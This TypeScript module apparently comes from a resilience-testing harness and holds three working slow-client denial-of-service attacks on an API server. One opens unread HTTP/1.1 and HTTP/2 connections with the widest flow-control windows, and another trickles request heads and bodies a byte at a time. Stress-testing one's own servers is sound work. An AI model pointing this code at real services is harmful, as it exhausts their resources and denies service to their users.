/** Clients that do not read, and clients that hardly write. */
import type { TLSSocket } from 'node:tls';
import type { Attack, AttackContext, AttackResult } from '../attack.ts';
import { ATTACKED, asAdmin } from '../site.ts';
import { frame, openTls, PREFACE, plainFields } from '../wire.ts';

const OBJECTS = 40;
const OBJECT_BYTES = 100_000;
const READERS = 60;
const STREAMS = 20;
const WRITERS = 40;
const POLL_MS = 200;

async function whileThereIsTime({ hasTime }: AttackContext, step: () => void): Promise<void> {
  while (hasTime()) {
    step();
    await new Promise((resolve) => setTimeout(resolve, POLL_MS));
  }
}

export const slowLists: Attack = {
  name: 'slow lists',
  summary:
    'lists of megabytes that nobody reads, over both protocols, with windows as wide as they go',
  run: (context) => leaveUnread(context, ''),
};

export const slowWatches: Attack = {
  name: 'slow watches',
  summary: 'watches that begin with megabytes that nobody reads, over both protocols',
  run: (context) => leaveUnread(context, '?watch=true'),
};

async function leaveUnread(context: AttackContext, query: string): Promise<AttackResult> {
  const { site, random, hasTime } = context;
  const path = site.resource.path.replace('{ns}', ATTACKED);
  await Promise.all(
    Array.from({ length: OBJECTS }, (_, at) => {
      const body = site.resource.body(`large-${random.int(0, 1e9)}-${at}`, OBJECT_BYTES);
      return asAdmin(site, 'POST', path, body);
    }),
  );
  const sockets: TLSSocket[] = [];
  let sent = OBJECTS;
  for (let at = 0; at < READERS && hasTime(); at += 1) {
    const isHttp2 = at % 2 === 0;
    const socket = await openTls(site, { alpn: isHttp2 ? 'h2' : 'http/1.1', asUser: true });
    socket.pause();
    if (isHttp2) socket.write(manyStreams(`${path}${query}`));
    else socket.write(`GET ${path}${query} HTTP/1.1\r\nHost: a\r\n\r\n`);
    sockets.push(socket);
    sent += isHttp2 ? STREAMS : 1;
  }
  await whileThereIsTime(context, () => undefined);
  for (const socket of sockets) socket.destroy();
  // Later reads of others are as small as before.
  if (!site.hasEnded())
    await asAdmin(site, 'DELETE', `${path}?fieldSelector=metadata.name!%3Dfuzzed`);
  return { sent, findings: [] };
}

/** Streams whose windows are as wide as they go, on a connection that is not read. */
function manyStreams(path: string): Buffer {
  const window = Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]);
  const fields = plainFields([
    [':method', 'GET'],
    [':scheme', 'https'],
    [':path', path],
    [':authority', 'a'],
  ]);
  const streams = Array.from({ length: STREAMS }, (_, at) => frame(1, 5, 2 * at + 1, fields));
  const update = frame(8, 0, 0, Buffer.from([0x7f, 0, 0, 0]));
  return Buffer.concat([PREFACE, frame(4, 0, 0, window), update, ...streams]);
}

export const slowWriters: Attack = {
  name: 'slow writers',
  summary: 'heads and bodies that come a byte at a time, and never whole',
  async run(context) {
    const { site } = context;
    const path = site.resource.path.replace('{ns}', ATTACKED);
    const sockets: TLSSocket[] = [];
    for (let at = 0; at < WRITERS && context.hasTime(); at += 1) {
      const socket = await openTls(site, { asUser: at % 2 === 0 });
      const body = at % 4 < 2;
      socket.write(
        body
          ? `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n{`
          : 'GET /livez HTTP/1.1\r\nX-A: ',
      );
      socket.resume();
      sockets.push(socket);
    }
    let sent = WRITERS;
    await whileThereIsTime(context, () => {
      for (const socket of sockets) if (!socket.destroyed) socket.write(' ');
      sent += sockets.length;
    });
    for (const socket of sockets) socket.destroy();
    return { sent, findings: [] };
  },
};
